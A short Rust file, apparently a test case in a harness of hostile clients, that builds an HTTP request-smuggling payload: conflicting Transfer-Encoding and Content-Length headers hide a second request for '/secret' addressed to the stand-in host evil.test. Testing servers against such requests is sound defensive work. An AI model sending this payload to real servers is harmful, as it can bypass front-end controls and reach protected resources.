//! Says how the body is sent, so that it ends elsewhere for another server.

use hostile_guests::{Request, Told, attack};

attack!(run);

fn run(_: String) -> Told {
    Request::post(SMUGGLED).with("transfer-encoding", "chunked").with("content-length", "0").outcome()
}

const SMUGGLED: &[u8] = b"0\r\n\r\nGET /secret HTTP/1.1\r\nhost: evil.test\r\n\r\n";
